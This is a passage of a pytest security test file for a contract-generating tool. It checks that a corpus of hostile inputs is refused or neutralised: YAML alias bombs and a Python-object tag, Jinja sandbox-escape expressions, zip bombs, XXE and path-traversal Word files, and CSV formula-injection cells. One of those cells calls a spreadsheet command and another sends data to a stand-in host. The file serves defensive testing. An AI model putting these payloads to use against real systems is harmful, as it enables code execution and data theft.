"""The hostile corpus (tests/hostile/): every file is one class of bad input, run through
every command that reads that kind of file. Each must end in its exact message and exit
code 1: no traceback, no hang, nothing written.

The binary files are built by tests/hostile/build_corpus.py; the limits are in
contractgen/base/untrusted.py and docs/security.md "Safety limits".
"""

from __future__ import annotations

import importlib.util
import shutil
import signal
from pathlib import Path
from types import ModuleType
from xml.sax.saxutils import escape

import pytest

from helpers import files_under, run_cli

HOSTILE = Path(__file__).resolve().parent / "hostile"
LETTERS = ("letters", "example-borough", "-p", "examples/example-borough-providers.csv", "--as-of", "2026-11-26")


@pytest.fixture
def ws(workspace_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(workspace_dir)
    monkeypatch.setattr("contractgen.base.untrusted.MAX_RENDER_SECONDS", 2.0)
    return workspace_dir


def refused(*args: str) -> list[str]:
    """Run a command that must refuse its input: exit 1, stderr lines, nothing on stdout."""
    result = run_cli(*args)
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    return result.stderr.splitlines()


def build_corpus() -> ModuleType:
    """tests/hostile/build_corpus.py (the folder is not a package)."""
    spec = importlib.util.spec_from_file_location("build_corpus", HOSTILE / "build_corpus.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_corpus_is_what_build_corpus_writes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    build_corpus = globals()["build_corpus"]()
    monkeypatch.setattr(build_corpus, "HERE", tmp_path)
    build_corpus.main()
    for built in tmp_path.rglob("*.*"):
        assert (HOSTILE / built.relative_to(tmp_path)).read_bytes() == built.read_bytes(), built.name


# ------------------------------------------------------------------------------- YAML

#: Hostile files that take seconds by design (a bomb, nesting to the limit, an endless loop
#: stopped by the time limit): their tests are marked slow (left out of the fast suite).
SLOW_CASES = {"alias-bomb.yaml", "deep-nesting.yaml", "endless-loop.j2"}


def cases(names) -> list:
    """The case names in order, the slow ones marked slow."""
    return [pytest.param(n, marks=pytest.mark.slow) if n in SLOW_CASES else n for n in sorted(names)]


NESTED = "the data is nested more than 50 levels deep; contractgen files need a few levels: check the indentation and brackets"
YAML_CASES = {
    "deep-nesting.yaml": f"2:57: {NESTED}",
    "alias-loop.yaml": (
        "2:13: council.name[1]: the data is nested more than 50 levels deep (an alias *name inside the value it "
        "names repeats it without end); write the values out"
    ),
    "alias-bomb.yaml": (
        "1:34: a5[0][6][8][8][8][8]: the file expands to more than 200000 values (through anchors and aliases); write the values out "
        "instead of repeating aliases"
    ),
    "python-tag.yaml": (
        "2:9: council.name: the YAML tag !!python/object/apply:os.system is not allowed: contractgen reads plain "
        "data (text, numbers, dates, true/false, lists and mappings) only; remove the tag"
    ),
    "duplicate-key.yaml": "3:3: council.name: duplicate key 'name' (first defined on line 2); remove one of them",
    "tab-indent.yaml": (
        "2:1: YAML syntax error: while scanning for the next token, found character '\\t' that cannot start any "
        "token; indent with spaces, not tabs"
    ),
    "two-documents.yaml": (
        "3:1: YAML syntax error: expected a single document in the stream, but found another document; a file "
        "holds one document: remove the `---` line"
    ),
    "not-utf8.yaml": "2: not UTF-8 text (byte 0xe9); save the file as UTF-8",
    "jinja-in-yaml.yaml": "2:10: council.name: keys must be plain text, not lists or mappings",
}


@pytest.mark.parametrize("name", cases(YAML_CASES))
def test_hostile_yaml_as_a_profile(ws: Path, name: str):
    shutil.copy(HOSTILE / "yaml" / name, ws / "profiles/hostile.yaml")
    problem = f"profiles/hostile.yaml:{YAML_CASES[name]}"
    assert refused("schedule", "hostile")[0] == problem
    assert refused("validate")[0] == problem
    assert files_under(ws / "out") == []


@pytest.mark.parametrize("name", cases(YAML_CASES))
def test_hostile_yaml_as_a_clause(ws: Path, name: str):
    shutil.copy(HOSTILE / "yaml" / name, ws / "clause_library/clauses/hostile.yaml")
    problem = f"clause_library/clauses/hostile.yaml:{YAML_CASES[name]}"
    assert refused("clauses", "list") == [problem, "error: 1 problem in the clause library"]
    assert refused("validate")[0] == problem
    assert refused("schedule", "example-borough")[0] == problem


@pytest.mark.parametrize("name", cases(YAML_CASES))
@pytest.mark.parametrize("target", ["contractgen.yaml", "clause_library/library.yaml"])
def test_hostile_yaml_as_the_workspace_or_library_file(ws: Path, name: str, target: str):
    shutil.copy(HOSTILE / "yaml" / name, ws / target)
    assert refused("validate")[0] == f"{target}:{YAML_CASES[name]}"


# ------------------------------------------------------------------------------- Jinja

LOADING = "template syntax error: {{% {} %}} is not allowed: a template cannot load other templates; write the text here instead"
TOO_LARGE = "the number 1000000000 is too large for a template (the limit is 100000)"
TOO_LONG = "a value would be longer than 2,000,000 characters or items"
REPEATED = "the repeated text or list would be too long for a template"
#: file -> (it is refused when compiled, the rule)
JINJA_CASES = {
    "include.j2": (True, LOADING.format("include")),
    "import.j2": (True, LOADING.format("import")),
    "from-import.j2": (True, LOADING.format("from ... import")),
    "extends.j2": (True, LOADING.format("extends")),
    "power-tower.j2": (False, "the power 387420489 is too large for a template"),
    "huge-power.j2": (False, "the power 1000000 is too large for a template"),
    "repeat-text.j2": (False, REPEATED),
    "repeat-list.j2": (False, REPEATED),
    "huge-range.j2": (False, TOO_LARGE),
    "wide-filter.j2": (False, TOO_LARGE),
    "wide-method.j2": (False, TOO_LARGE),
    "wide-format.j2": (False, "the format '%0999999999' asks for a width above 100000"),
    "replace-growth.j2": (False, TOO_LONG),
    "namespace-doubling.j2": (False, TOO_LONG),
    "recursion.j2": (False, "a macro or recursive loop calls itself too deeply"),
    "endless-loop.j2": (False, "rendering took longer than 2 seconds (a loop too large?)"),
    "dunder.j2": (False, "access to attribute '__class__' of 'str' object is unsafe"),
    "division-by-zero.j2": (False, "cannot work out 1 / 0: division by zero"),
    "undefined-in-list.j2": (False, "access to attribute '__class__' of 'int' object is unsafe"),
    "missing-in-list.j2": (False, "'int object' has no attribute 'nothing'"),
    "sum-of-number.j2": (False, "the filter sum cannot be used here: 'int' object is not iterable"),
}
#: Where a Word template words the rule differently (it names values, not Python types).
WORD_RULES = {"missing-in-list.j2": "there is no value named 'nothing' there"}


def jinja(name: str) -> str:
    return (HOSTILE / "jinja" / name).read_text(encoding="utf-8")


@pytest.mark.parametrize("name", cases(JINJA_CASES))
def test_hostile_jinja_in_clause_text(ws: Path, name: str):
    clause = ws / "clause_library/clauses/dspt.support.yaml"
    clause.write_text(clause.read_text(encoding="utf-8").replace("text: |\n", f"text: |\n  Bad {jinja(name)} here.\n\n", 1), encoding="utf-8")
    at_compile, rule = JINJA_CASES[name]
    if at_compile:
        expected = [f"clause_library/clauses/dspt.support.yaml:13: text: {rule}", "error: 1 problem in the clause library"]
        assert refused("validate")[0] == expected[0]
    else:
        expected = [
            f"clause_library/clauses/dspt.support.yaml:12:1: text: cannot render clause text: {rule}; check the {{{{ }}}} tags",
            f"error: clause dspt.support: {rule}",
        ]
    assert refused("schedule", "example-borough") == expected
    assert files_under(ws / "out") == []


@pytest.mark.parametrize("name", cases(JINJA_CASES))
def test_hostile_jinja_in_a_word_template(ws: Path, name: str):
    corpus = build_corpus()
    source = jinja(name)
    body = corpus.document("{{p schedule_body }}", b"", escape(source))
    (ws / "templates/schedule.docx").write_bytes(corpus.docx({"word/document.xml": body}))
    at_compile, rule = JINJA_CASES[name]
    rule = WORD_RULES.get(name, rule)
    where = "templates/schedule.docx: body" + ("" if name == "recursion.j2" else f', paragraph "{source[:80]}"')
    if at_compile:  # the problem already says what failed
        expected = [f"{where}: {rule}"]
    else:
        message = f"the template cannot be rendered: {rule}; fix the tag in Word (docs/branding.md 'Template variables')"
        expected = [f"{where}: {message}", f"error: {message}"]
    assert refused("schedule", "example-borough") == expected
    assert files_under(ws / "out") == []


# ------------------------------------------------------------------------------- Word files

RESAVE = "open the template in Word and save it again as .docx"
DTD = (
    "word/document.xml declares a DTD (<!DOCTYPE ...>), which Word documents never hold and contractgen refuses "
    "(it can hide entities that read other files); "
)
NOT_ZIP = "not a Word .docx file (it is not a zip package); save it from Word as .docx"
#: file -> the message for a template ({resave} is how to get a sound file)
TEMPLATE_CASES = {
    "not-a-zip.docx": NOT_ZIP,
    "truncated.docx": NOT_ZIP,
    "no-document.docx": "not a Word document: it has no word/document.xml; save it from Word as .docx",
    "not-well-formed.docx": (
        "word/document.xml is not well-formed XML (Premature end of data in tag body line 2, line 2, column 92); {resave}"
    ),
    "utf16.docx": "word/document.xml is UTF-16 text, not UTF-8 as Word writes it; {resave}",
    "stray-byte.docx": "word/document.xml is not UTF-8 text (byte 0xff on line 2); {resave}",
    "xxe.docx": DTD + "{resave}",
    "entity-expansion.docx": DTD + "{resave}",
    "zip-bomb.docx": "the package member word/media/filler.bin expands 1025 times (more than 200): it looks like a zip bomb; {resave}",
    "path-traversal.docx": "the package holds a file named '../../evil.txt', which points outside the package; {resave}",
    "too-many-members.docx": "the package holds 2004 files, more than the limit of 2000; {resave}",
    "macro.docx": (
        "the template holds macros (word/vbaProject.bin), and contractgen never copies a macro into the documents "
        "it writes; in Word, save it as 'Word Document (.docx)', not as a macro-enabled document (.docm or .dotm)"
    ),
    "two-documents.docx": (
        "the package holds two files named word/document.xml, so it is not clear which one counts (programs "
        "disagree); {resave}"
    ),
}


@pytest.mark.parametrize("name", sorted(TEMPLATE_CASES))
def test_hostile_word_template(ws: Path, name: str):
    message = TEMPLATE_CASES[name].format(resave=RESAVE)
    shutil.copy(HOSTILE / "templates" / name, ws / "templates/schedule.docx")
    assert refused("schedule", "example-borough") == [f"templates/schedule.docx: {message}"]
    assert refused("validate")[0] == f"templates/schedule.docx: {message}"
    shutil.copy(HOSTILE / "templates" / name, ws / "templates/letter.docx")
    assert refused(*LETTERS, "--no-dspt") == [f"templates/letter.docx: {message}"]
    assert files_under(ws / "out") == []
    assert not (ws.parent / "evil.txt").exists()


BARE = (
    "{{{{ {0} }}}} holds {1} of Word XML, so it must be written {{{{{2} {0} }}}} ({3}); without the {2} Word "
    "cannot open the document"
)
PARAGRAPHS = ("whole paragraphs", "p", "alone in its own paragraph")
#: file -> (the kind of template it is, its first problem)
BODY_CASES = {
    "bare-schedule-body.docx": ("schedule", 'body, paragraph "Schedule: {{ schedule_body }}": ' + BARE.format("schedule_body", *PARAGRAPHS)),
    "bare-letter-body.docx": ("letter", 'body, paragraph "{{ letter_body }}": ' + BARE.format("letter_body", *PARAGRAPHS)),
    "bare-logo.docx": (
        "schedule", 'body, paragraph "{{ council.logo }}": ' + BARE.format("council.logo", "a picture", "r", "inside a paragraph"),
    ),
    "no-schedule-body.docx": (
        "schedule",
        "a schedule template must place the clauses: it has no {{p schedule_body }}; type it alone in the paragraph "
        "where they go (docs/branding.md 'Template variables')",
    ),
}


@pytest.mark.parametrize("name", sorted(BODY_CASES))
def test_a_template_that_would_write_broken_or_empty_documents(ws: Path, name: str):
    kind, problem = BODY_CASES[name]
    shutil.copy(HOSTILE / "templates" / name, ws / f"templates/{kind}.docx")
    expected = f"templates/{kind}.docx: {problem}"
    command = ("schedule", "example-borough") if kind == "schedule" else (*LETTERS, "--no-dspt")
    assert refused(*command)[0] == expected
    assert expected in refused("validate")
    assert files_under(ws / "out") == []


def test_a_letter_template_must_place_the_letter_body(ws: Path):
    shutil.copy(HOSTILE / "templates/no-schedule-body.docx", ws / "templates/letter.docx")
    expected = (
        "templates/letter.docx: a letter template must place the letter's wording: it has no {{p letter_body }}; "
        "type it alone in the paragraph where they go (docs/branding.md 'Template variables')"
    )
    assert refused(*LETTERS, "--no-dspt")[0] == expected
    assert expected in refused("validate")


#: textconv (git diff) reads documents leniently: what it cannot read it says so.
TEXTCONV_CASES = {
    "not-a-zip.docx": "error: d.docx is not a Word document (.docx); open it in Word and save it as 'Word Document (.docx)'",
    "truncated.docx": "error: d.docx is not a Word document (.docx); open it in Word and save it as 'Word Document (.docx)'",
    "no-document.docx": (
        "error: d.docx has no Word document body; it is not a .docx (or it was saved as Strict Open XML): "
        "save it as 'Word Document (.docx)'"
    ),
    "not-well-formed.docx": (
        "error: d.docx: word/document.xml is not well-formed XML (Premature end of data in tag body line 2, line 2, "
        "column 92 (<string>, line 2)); the file is damaged, open and re-save it in Word"
    ),
    "stray-byte.docx": (
        "error: d.docx: word/document.xml is not well-formed XML (Invalid bytes in character encoding, line 2, "
        "column 92 (<string>, line 2)); the file is damaged, open and re-save it in Word"
    ),
    "zip-bomb.docx": (
        "d.docx: the package member word/media/filler.bin expands 1025 times (more than 200): it looks like a zip "
        "bomb; open it in Word and save it again as .docx"
    ),
    "path-traversal.docx": (
        "d.docx: the package holds a file named '../../evil.txt', which points outside the package; open it in "
        "Word and save it again as .docx"
    ),
    "too-many-members.docx": (
        "d.docx: the package holds 2004 files, more than the limit of 2000; open it in Word and save it again as .docx"
    ),
    "two-documents.docx": (
        "d.docx: the package holds two files named word/document.xml, so it is not clear which one counts (programs "
        "disagree); open it in Word and save it again as .docx"
    ),
}


@pytest.mark.parametrize("name", sorted(TEMPLATE_CASES))
def test_hostile_document_through_textconv(ws: Path, name: str):
    shutil.copy(HOSTILE / "templates" / name, ws / "d.docx")
    if name in TEXTCONV_CASES:
        assert refused("textconv", "d.docx") == [TEXTCONV_CASES[name]]
    else:  # readable text; entities are never expanded or fetched
        result = run_cli("textconv", "d.docx")
        assert result.exit_code == 0
        assert "root:" not in result.stdout and "aaaaaaaaaa" not in result.stdout


# ------------------------------------------------------------------------------- registers and exports

REGISTER_CASES = {
    "impossible-date.xlsx": [
        "R:2: contact_name: Excel stores '2026-02-31' here as a date that does not exist; type the date again as "
        "dd/mm/yyyy, or clear the cell",
        "error: R: 1 problem in the provider register; correct the rows named above",
    ],
    "year-zero.xlsx": [
        "R:2: contact_name: Excel stores '0000-01-01' here as a date that does not exist; type the date again as "
        "dd/mm/yyyy, or clear the cell",
        "error: R: 1 problem in the provider register; correct the rows named above",
    ],
    "not-a-zip.xlsx": ["R: cannot open the Excel workbook (File is not a zip file); save it again as .xlsx"],
    "not-utf8.csv": ["R:2: not UTF-8 text (byte 0xe9); save the file as UTF-8"],
    "nul-byte.csv": [
        "R:2: name: contains the control character U+0000, which a Word letter cannot hold; delete it from the cell "
        "(it is often pasted invisibly from another program)",
        "error: R: 1 problem in the provider register; correct the rows named above",
    ],
}


@pytest.mark.parametrize("name", sorted(REGISTER_CASES))
def test_hostile_register(ws: Path, name: str):
    shown = f"examples/{name}"
    shutil.copy(HOSTILE / "registers" / name, ws / shown)
    args = ("letters", "example-borough", "-p", shown, "--no-dspt", "--as-of", "2026-11-26", "--strict")
    assert refused(*args) == [line.replace("R:", f"{shown}:") for line in REGISTER_CASES[name]]
    assert files_under(ws / "out") == []


DATE_FIX = "write it as dd/mm/yyyy (e.g. 30/06/2025) or leave it blank"
EXCEL_DATE = "Excel stores {!r} here as a date that does not exist; type the date again as dd/mm/yyyy, or clear the cell"
OUT_OF_RANGE = (
    "the date {} cannot be a DSPT publication date (they fall between 2000 and 2099; Excel shows a date number "
    "below 1 as 1899 or 1900); type the date again as dd/mm/yyyy, or leave it blank"
)
EXPORT_CASES = {
    "impossible-date.csv": f"2: Date Of Publication: the date '31/02/2026' does not exist (check the day, the month and the year); {DATE_FIX}",
    "zero-date.csv": f"2: Date Of Publication: the date '00/00/0000' does not exist (check the day, the month and the year); {DATE_FIX}",
    "year-zero.csv": f"2: Date Of Publication: the date '29/02/0000' does not exist (check the day, the month and the year); {DATE_FIX}",
    "impossible-date.xlsx": "2: Date Of Publication: " + EXCEL_DATE.format("2026-02-31"),
    "zero-date.xlsx": "2: Date Of Publication: " + EXCEL_DATE.format("0000-00-00"),
    "zip-bomb.xlsx": " the package member xl/filler.bin expands 1025 times (more than 200): it looks like a zip bomb; save it again as .xlsx",
    "entity-expansion.xlsx": (
        " cannot open the Excel workbook (limit on input amplification factor (from DTD and entities) breached: "
        "line 3, column 476); save it again as .xlsx"
    ),
    "damaged-sheet.xlsx": " cannot open the Excel workbook (no element found: line 2, column 317); save it again as .xlsx",
    "negative-date-number.xlsx": f"2: Date Of Publication: {OUT_OF_RANGE.format('25/12/1899')}",
    "year-9999.csv": f"2: Date Of Publication: {OUT_OF_RANGE.format('31/12/9999')}",
    "nul-byte.csv": (
        "2: Organisation Name: contains the control character U+0000, which a Word letter cannot hold; the export "
        "is damaged: download it again"
    ),
}
#: Files that cannot be read at all: one line, no row problems.
UNREADABLE = {"zip-bomb.xlsx", "entity-expansion.xlsx", "damaged-sheet.xlsx"}


@pytest.mark.parametrize("name", sorted(EXPORT_CASES))
def test_hostile_dspt_export(ws: Path, name: str):
    shown = f"examples/{name}"
    shutil.copy(HOSTILE / "exports" / name, ws / shown)
    lines = refused(*LETTERS, "--dspt", shown)
    assert lines[0] == f"{shown}:{EXPORT_CASES[name]}"
    if name in UNREADABLE:
        assert lines[1:] == []
    else:
        assert lines[1:] == [f"error: {shown}: 1 problem in the DSPT export; correct it or download the export again"]
    overview = ("overview", "example-borough", "-p", "examples/example-borough-providers.csv", "--as-of", "2026-11-26")
    assert refused(*overview, "--dspt", shown)[0] == lines[0]
    assert files_under(ws / "out") == []


def test_a_render_that_never_ends_is_stopped_by_the_timer(monkeypatch: pytest.MonkeyPatch):
    """The timer interrupts a loop that yields no output (checks between chunks cannot)."""
    import time

    from contractgen.base.environment import clause_environment
    from contractgen.base.untrusted import RenderLimitError, render_bounded

    monkeypatch.setattr("contractgen.base.untrusted.MAX_RENDER_SECONDS", 0.5)
    template = clause_environment().from_string(jinja("endless-loop.j2"))
    handler = signal.getsignal(signal.SIGALRM)
    started = time.monotonic()
    with pytest.raises(RenderLimitError, match="rendering took longer than 0.5 seconds"):
        render_bounded(template, {})
    assert time.monotonic() - started < 5
    assert signal.getsignal(signal.SIGALRM) == handler  # the caller's handler is back


def test_the_readme_lists_the_limits():
    from contractgen.base import environment
    from contractgen.base import untrusted
    from contractgen.base import yamlio

    section = (Path(__file__).resolve().parent.parent / "docs" / "security.md").read_text(encoding="utf-8").split("## Safety limits")[1]
    section = section.split("\n## ")[0].replace(",", "")
    for value in (
        f"{untrusted.MAX_YAML_BYTES // 1_000_000} MB", f"{untrusted.MAX_YAML_DEPTH} levels", f"{yamlio.MAX_VALUES} values",
        f"{untrusted.MAX_ZIP_MEMBERS} zip members", f"{untrusted.MAX_ZIP_BYTES // 1_000_000} MB uncompressed",
        f"{untrusted.MAX_ZIP_RATIO} times", f"{environment.MAX_INT_BITS} bits", f"{environment.MAX_REPEAT} characters",
        f"above {untrusted.MAX_ARGUMENT} passed", f"{untrusted.MAX_VALUE_CHARS} characters or items",
        f"{untrusted.MAX_RENDER_CHARS} characters out", f"{untrusted.MAX_RENDER_SECONDS:g} seconds per render",
        f"CSV at most {untrusted.MAX_TABLE_BYTES // 1_000_000} MB", f"at most {untrusted.MAX_IMAGE_BYTES // 1_000_000} MB",
        f"at most {untrusted.MAX_TABLE_ROWS} rows", f"at most {untrusted.MAX_CLAUSE_CHARS} characters per clause",
        f"{untrusted.MAX_CLAUSE_RENDERED_CHARS} characters of Markdown", f"{untrusted.MAX_IMAGE_SIDE} pixels a side",
        f"{untrusted.MAX_IMAGE_PIXELS} in all",
    ):
        assert value in section, value


def test_the_time_limit_needs_no_interval_timer(monkeypatch: pytest.MonkeyPatch):
    """Windows has no ``signal.setitimer``: the sandbox checks the deadline itself, also in
    a loop that calls nothing and prints nothing (each item a loop takes is checked)."""
    import time

    from contractgen.base.environment import clause_environment
    from contractgen.base.untrusted import RenderLimitError, render_bounded

    monkeypatch.delattr(signal, "setitimer")
    monkeypatch.delattr(signal, "SIGALRM")
    monkeypatch.setattr("contractgen.base.untrusted.MAX_RENDER_SECONDS", 0.5)
    silent = '{% set s = "x" * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}'
    for source in (jinja("endless-loop.j2"), silent):
        started = time.monotonic()
        with pytest.raises(RenderLimitError, match=r"^rendering took longer than 0\.5 seconds \(a loop too large\?\)$"):
            render_bounded(clause_environment().from_string(source), {})
        assert time.monotonic() - started < 5


def test_a_letter_has_one_time_limit_for_all_its_renders():
    """Renders inside one ``time_limit`` share its deadline: the second part of a letter
    does not get a fresh 20 seconds."""
    import time

    from contractgen.base.environment import clause_environment
    from contractgen.base.untrusted import RenderLimitError, render_bounded, time_limit

    quick = clause_environment().from_string("{% for i in range(3) %}{{ i }}{% endfor %}")
    with time_limit(0.2):
        assert render_bounded(quick, {}) == "012"
        time.sleep(0.3)  # the first part took the whole limit
        with pytest.raises(RenderLimitError, match=r"^rendering took longer than 0\.2 seconds"):
            render_bounded(quick, {})
    assert render_bounded(quick, {}) == "012"  # the next letter starts afresh


@pytest.mark.slow
def test_a_letter_that_never_ends_is_stopped_in_spawned_workers(ws: Path, monkeypatch: pytest.MonkeyPatch):
    """Workers started with spawn (Windows, macOS) prepare their own renderer and keep the
    batch's time limit; the error comes back located, and no letter is written."""
    monkeypatch.setattr("contractgen.letters.pool.START_METHOD", "spawn")
    monkeypatch.delattr(signal, "setitimer")
    clause = ws / "clause_library/clauses/letter.support.yaml"
    text = clause.read_text(encoding="utf-8")
    line = text.splitlines().index("text: |") + 1  # the text key
    clause.write_text(text.replace("text: |\n", f"text: |\n  Bad {jinja('endless-loop.j2')} here.\n\n", 1), encoding="utf-8")
    rule = "rendering took longer than 2 seconds (a loop too large?)"
    assert refused(*LETTERS, "--no-dspt", "--workers", "2") == [
        f"clause_library/clauses/letter.support.yaml:{line}:1: text: cannot render clause text: {rule}; check the {{{{ }}}} tags",
        f"error: clause letter.support: {rule}",
    ]
    assert [n for n in files_under(ws / "out") if n.endswith(".docx")] == []


# ------------------------------------------------------------------------------- CSV outputs

#: What a spreadsheet evaluates when a cell begins with it (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(path: Path) -> list[list[str]]:
    import csv

    return list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))


def assert_no_formula(path: Path) -> None:
    for row in csv_cells(path):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (path.name, cell)


def test_formula_names_are_neutralised_in_the_letters_csv_files(ws: Path):
    shutil.copy(HOSTILE / "registers/formula-names.csv", ws / "examples/formula-names.csv")
    result = run_cli("letters", "example-borough", "-p", "examples/formula-names.csv",
                     "--dspt", "examples/dspt-export-2026-11-26.csv", "--as-of", "2026-11-26")
    assert result.exit_code == 0, result.output
    out = ws / "out/example-borough-letters"
    for name in ("report.csv", "unmatched.csv"):
        assert_no_formula(out / name)
    names = [row[1] for row in csv_cells(out / "report.csv")[1:]]
    assert names == ["'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'+1+1"]
    assert csv_cells(out / "unmatched.csv")[1] == ["Q9Q9Q", "'+1+1", "start letter", ""]


def test_formula_names_are_neutralised_in_the_referrals_and_text_in_the_workbook(ws: Path):
    import openpyxl

    shutil.copy(HOSTILE / "registers/formula-names.csv", ws / "examples/formula-names.csv")
    result = run_cli("overview", "example-borough", "-p", "examples/formula-names.csv",
                     "--dspt", "examples/dspt-export-2026-11-26.csv", "--as-of", "2026-11-26")
    assert result.exit_code == 0, result.output
    out = ws / "out/example-borough-overview"
    assert_no_formula(out / "lso-referrals.csv")
    rows = csv_cells(out / "lso-referrals.csv")
    assert [r[7] for r in rows[1:]] == ["'=1+1", "'-2+3", "tab"]  # contact_name
    assert [r[9] for r in rows[1:]] == ["'@SUM(1)", "'+44 Road", "'-5"]  # address
    book = openpyxl.load_workbook(out / "overview.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert "=cmd|' /C calc'!A0" in [c.value for c in cells if c.data_type == "s"]
    assert not [c for c in cells if c.data_type == "f"]


def test_audit_scores_written_with_an_apostrophe_are_read_back_without_it(tmp_path: Path):
    from contractgen.audit.score import latest_audit_scores
    from contractgen.base.csvout import csv_bytes

    header = ["ods_code", "provider", "overall", "critical_gaps", "version", "completed_on", "scored_on"]
    path = tmp_path / "audit-scores.csv"
    path.write_bytes(csv_bytes(header, [["VM1A2", "=HYPERLINK(\"x\")", 80, "", "1.0", "2026-05-01", "2026-05-02"]]))
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
    assert latest_audit_scores([path])["VM1A2"].provider == "=HYPERLINK(\"x\")"


# ------------------------------------------------------------------------------- links

@pytest.mark.parametrize("link", ["contractgen.yaml", "profiles", "clause_library/clauses", ".gitignore"])
def test_init_force_never_writes_through_a_link_that_leaves_the_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: str):
    monkeypatch.chdir(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("keep me\n", encoding="utf-8")
    (tmp_path / "NEW" / link).parent.mkdir(parents=True)
    target = outside / "secret.txt" if "." in link else outside
    (tmp_path / "NEW" / link).symlink_to(target)
    message = (
        f"NEW/{link}: a link to {target}, outside NEW; init writes only inside the folder it is given: "
        "remove the link, or choose another folder"
    )
    for who in ("AUTHOR", "COMMITTER"):
        monkeypatch.setenv(f"GIT_{who}_NAME", "Lead")
        monkeypatch.setenv(f"GIT_{who}_EMAIL", "lead@example.org")
    assert refused("init", "NEW", "--force") == [message]
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert (outside / "secret.txt").read_text(encoding="utf-8") == "keep me\n"


def test_init_force_follows_a_link_that_stays_inside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "NEW").mkdir()
    (tmp_path / "NEW/contractgen.yaml").symlink_to("own.yaml")
    assert run_cli("init", "NEW", "--force", "--no-git").exit_code == 0
    assert "council" in (tmp_path / "NEW/own.yaml").read_text(encoding="utf-8")


# ------------------------------------------------------------------------------- logos

LOGO = "profiles/example-borough.yaml:10:3: council.logo: the logo cannot be used: {}; export the logo again as PNG"
LOGO_CASES = {
    "huge-header.png": "it claims more pixels than a logo needs (at most 10,000 pixels a side and 25,000,000 in all)",
    "truncated.png": "the image is damaged or cut short (image file is truncated)",
    "not-an-image.png": "it is not a PNG or JPEG image",
}


@pytest.mark.parametrize("name", sorted(LOGO_CASES))
def test_hostile_logo(ws: Path, name: str):
    shutil.copy(HOSTILE / "logos" / name, ws / "profiles/logos/example-borough.png")
    problem = LOGO.format(LOGO_CASES[name])
    assert refused("schedule", "example-borough")[0] == problem
    assert refused(*LETTERS, "--no-dspt")[0] == problem
    assert refused("validate")[0] == problem
    assert files_under(ws / "out") == []


def test_a_very_wide_logo_is_shown_at_the_page_width(ws: Path):
    import zipfile

    corpus = build_corpus()
    (ws / "profiles/logos/example-borough.png").write_bytes(corpus.png(9000, 1, b"\0" + b"\x80" * 9000))
    assert run_cli("schedule", "example-borough", "-o", "s.docx").exit_code == 0
    with zipfile.ZipFile(ws / "s.docx") as z:
        body = z.read("word/document.xml").decode()
    assert '<wp:extent cx="5760000" cy="640"/>' in body  # 16 cm wide, height in proportion


def test_validate_renders_a_letter_template_as_letters_does(ws: Path):
    corpus = build_corpus()
    body = corpus.document("{{p letter_body }}", b"", "{{ provider.__class__.__init__.__globals__ }}")
    (ws / "templates/letter.docx").write_bytes(corpus.docx({"word/document.xml": body}))
    rule = "access to attribute '__class__' of 'dict' object is unsafe"
    expected = (
        'templates/letter.docx: body, paragraph "{{ provider.__class__.__init__.__globals__ }}": the template '
        f"cannot be rendered: {rule}; fix the tag in Word (docs/branding.md 'Template variables')"
    )
    assert refused(*LETTERS, "--no-dspt")[0] == expected
    assert expected in refused("validate")


@pytest.mark.parametrize("path", ["../../../../etc/passwd", "/etc/passwd", "sub/schedule.docx", "..\\evil.docx"])
def test_a_template_path_in_a_profile_stays_in_the_templates_folder(ws: Path, path: str):
    profile = ws / "profiles/example-borough.yaml"
    profile.write_text(profile.read_text(encoding="utf-8") + f"templates:\n  schedule: '{path}'\n", encoding="utf-8")
    line = len(profile.read_text(encoding="utf-8").splitlines())
    problem = (
        f"profiles/example-borough.yaml:{line}:3: templates.schedule: {path!r} is not a file name in the templates "
        "folder; name the template by its file name alone, such as schedule.docx, and keep the file in the "
        "workspace's templates folder"
    )
    assert refused("schedule", "example-borough")[0] == problem
    assert refused("validate")[0] == problem


# ------------------------------------------------------------------------------- audit scores

NEVER = ", which `contractgen audit score` never writes; write the file again with it"
AUDIT_SCORE_CASES = {
    "overall-250.csv": "overall: the overall score 250 is not a percentage from 0 to 100" + NEVER,
    "negative-gaps.csv": "critical_gaps: '-3' is not a question id" + NEVER,
    "completed-9999.csv": "completed_on: the date 9999-12-31 is not between 2000 and 2099" + NEVER,
}


@pytest.mark.parametrize("name", sorted(AUDIT_SCORE_CASES))
def test_hostile_audit_scores(ws: Path, name: str):
    shutil.copy(HOSTILE / "audit-scores" / name, ws / "examples/audit-scores.csv")
    args = ("overview", "example-borough", "-p", "examples/example-borough-providers.csv",
            "--dspt", "examples/dspt-export-2026-11-26.csv", "--as-of", "2026-11-26")
    assert refused(*args, "--audit-scores", "examples/audit-scores.csv") == [
        f"examples/audit-scores.csv:2: {AUDIT_SCORE_CASES[name]}"
    ]
    assert files_under(ws / "out") == []


def test_a_form_completed_on_9999_12_31_is_refused():
    from contractgen.audit.read import ControlValue
    from contractgen.audit.score import _control_date

    assert _control_date(ControlValue("31/12/9999", "9999-12-31T00:00:00Z")) == (
        None, "9999-12-31 is not between 2000 and 2099; pick the date with the date picker"
    )
    assert _control_date(ControlValue("1 May 2026", "2026-05-01T00:00:00Z"))[0] is not None


# ------------------------------------------------------------------------------- profile values

@pytest.mark.parametrize("file, old, new, problem", [
    ("profiles/example-borough.yaml", "schedule_number: 12", "schedule_number: 1000000000000000000000000000000",
     "profiles/example-borough.yaml:15:3: contract.schedule_number: 1000000000000000000000000000000 is not a schedule "
